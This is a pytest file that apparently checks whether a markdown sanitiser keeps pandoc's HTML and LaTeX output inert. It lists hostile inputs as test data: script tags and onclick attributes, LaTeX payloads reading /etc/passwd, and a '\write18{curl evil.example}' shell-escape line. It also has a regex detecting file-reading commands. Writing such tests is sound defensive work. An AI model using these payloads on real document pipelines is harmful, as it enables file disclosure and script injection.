"""What pandoc makes of a response: nothing active in its HTML and LaTeX, formulas as formulas, dollars as money.

nbconvert's LaTeX and PDF exporters use it, and people who turn `nbconvert --to markdown` into something else.
"""

from __future__ import annotations

import re
import shutil
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from azml_magics.display.markdown import make_inert

from .test_markdown import HOSTILE, Live

needs_pandoc = pytest.mark.skipif(
    not shutil.which("pandoc"), reason="there is no pandoc on the PATH: apt-get install pandoc"
)
pytestmark = needs_pandoc
ATTRIBUTES = [
    '[x](http://y){onclick="alert(1)"} `c`{onclick="alert(1)"} [s]{onclick="alert(1)" style="background:url(//e)"}',
    '# H {onclick="alert(1)" .c}\n\ntext\n\nH {onclick="alert(1)"}\n---',
    '```{.python onclick="alert(1)"}\nx\n```\n\n``` {.python onclick=x.y}\nx\n```',
    "```{=html}\n<script>alert(1)</script>\n```",
    "``` {=html}\n<script>alert(1)</script>\n```",
    "~~~{=html}\n<script>alert(1)</script>\n~~~",
    "text\n~~~\n\n<script>alert(1)</script>\n~~~",
    "- text\n  ~~~~ {onclick=x}\n\n  ```\n  <script>alert(1)</script>",
    "`<script>alert(1)</script>`{=html} ``<img src=//e>``{=html}",
    "`` ` ``{=html} `a``<script>alert(1)</script>`{=html}",
    '::: {onclick="alert(1)"}\ndiv\n:::\n\n::::: {.a onclick=x}\ndiv\n:::::',
    "---\nheader-includes: <script>alert(2)</script>\n---\n\ntext",
    "text\n\n---\nheader-includes: |\n  <script>alert(2)</script>\n...\n\ntext",
    '\\{onclick="alert(1)"} [x]\\{onclick="alert(1)"} [s]\\\\{onclick="alert(1)"}',
    '[x](http://y){\nonclick="alert(1)"} [x](http://y){.a #b\nonclick=x}',
    '```]\n\\begin{align}%\\]]([^1]`{onclick="x"}](',
    '# ]({onclick="x"}',
    "- ```{=html}\n  <script>alert(1)</script>\n  ```\n\n- `x`{=html onclick=y}",
]
COMMANDS = [
    "\\input{/etc/passwd} and \\include{x} \\immediate\\write18{curl evil.example}",
    "$\\input{/etc/passwd}$ $$\\input{/etc/passwd}$$ \\(\\input{/etc/passwd}\\) \\[\\input{/etc/passwd}\\]",
    "\\begin{filecontents}{x.tex}\na\n\\end{filecontents}",
    "\\begin{align}\\input{/etc/passwd}\\end{align}",
    "`\\input{x}` `a \\input{/etc/passwd}",
    "http://x.y/\\input{/etc/passwd} foo](\\input{/etc/passwd})",
    "$^^5cinput{/etc/passwd}$",
    "\\\\\\input{/etc/passwd}",
    "```{=latex}\n\\input{/etc/passwd}\n```\n\n`\\input{/etc/passwd}`{=latex} `x`{=tex}",
    "- ```\n  a\n  ```\n  \\input{/etc/passwd}\n  ```",
    "\\def\\x{\\input{/etc/passwd}}\\x \\newcommand{\\y}{\\input{/etc/passwd}}\\y",
    "\\csname input\\endcsname{/etc/passwd} $\\csname input\\endcsname{/etc/passwd}$",
    "a`\n```\n```\\[`$](\\csname input\\endcsname\n```",
    "::: ```{=html}\n~~~\n\t$$\\write18{x}\\(%~",
    "\\openin1=/etc/passwd \\read1 to \\x \\x",
]
ACTIVE = re.compile(
    r"(?<!\\)(?:\\\\)*\\(?:input|include|includegraphics|write|openin|read|csname|def|newcommand|catcode|begin\{filecontents)"
    r"(?![A-Za-z])"
)


def pandoc(markdown, to, *options):
    ran = subprocess.run(
        ["pandoc", "--from", "markdown", "--to", to, *options],
        input=markdown,
        capture_output=True,
        text=True,
        check=True,
    )
    return ran.stdout


class LiveInPandoc(Live):
    """As `Live`; pandoc colours code in elements of its own, and numbers its lines."""

    PLAIN = Live.PLAIN | {"section", "sup", "sub", "figure", "figcaption", "colgroup", "col", "caption", "small", "q"}

    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, [] if tag == "col" else attrs)  # the widths of a table's columns

    handle_startendtag = handle_starttag


def live_in_html(markdown):
    parser = LiveInPandoc()
    parser.feed(pandoc(markdown, "html", "--no-highlight"))
    parser.close()
    return parser.found


@pytest.mark.parametrize("answer", [*HOSTILE, *ATTRIBUTES])
def test_html_of_pandoc_has_nothing_active(answer):
    assert live_in_html(make_inert(answer)) == []


def active_in_latex(markdown):
    """The first command that reaches outside; not in verbatim, where commands are text, nor pandoc's own of lists."""
    latex = pandoc(markdown, "latex")
    return ACTIVE.search(
        re.sub(r"\\def\\labelenum\w+|\\begin\{verbatim\}.*?\\end\{verbatim\}", "", latex, flags=re.DOTALL)
    )


@pytest.mark.parametrize("answer", COMMANDS)
def test_latex_of_pandoc_reads_no_files(answer):
    assert not active_in_latex(make_inert(answer))


# fmt: off
PIECES = st.sampled_from([
    "\\input{x}", "$", "$$", "`", "``", "\\", "\\\\", "\\(", "\\)", "\\[", "\\]", "{=html}", '{onclick="x"}', "{", "}", "\n\n", "\n",
    "```", "~~~", "```{=html}", "<script>alert(1)</script>", "[a](http://x)", "![a](http://x)", "[a]", "](", ")", "# ", "- ", "> ",
    ":::", "---", "%", "a", " ", "|", "^", "~", "*", "\\begin{align}", "\\end{align}", "http://x", "java&#115;cript:x", "[", "]",
    "    ", "\t", "text\n", "\n~~~\n", "\n```\n", "\\csname input\\endcsname", "\\write18{x}", "::: x", "1. ", "~~~~", "^[", "[^1]", "\\{", "\\href{javascript:x}{y}", "'", '"',
])
# fmt: on


@settings(max_examples=300)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_any_combination_of_pieces_is_inactive_in_pandoc(answer):
    inert = make_inert(answer)
    assert live_in_html(inert) == []
    assert not active_in_latex(inert)


def test_latex_has_formulas_money_and_paths():
    answer = (
        "It costs $5 or $6, 100% & more_of #1. Put it in C:\\temp\\new.\n\n"
        "Euler: \\(e^{i\\pi}=-1\\) and $a^2+b^2=c^2$:\n\n\\[ \\int_0^1 x\\,dx = \\frac12 \\]\n\n"
        "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}\n\nUse {x} or {.a}."
    )
    latex = pandoc(make_inert(answer), "latex")
    for part in (
        "It costs {\\$}5 or {\\$}6, 100\\% \\& more\\_of \\#1.",
        "C:\\textbackslash temp\\textbackslash new",
        "\\(e^{i\\pi}=-1\\) and \\(a^2+b^2=c^2\\)",
        "\\[ \\int_0^1 x\\,dx = \\frac12 \\]",
        "\\begin{align}\na &= b \\\\\nc &= d\n\\end{align}",
        "Use \\{x\\} or \\{.a\\}.",
    ):
        assert part in latex, latex
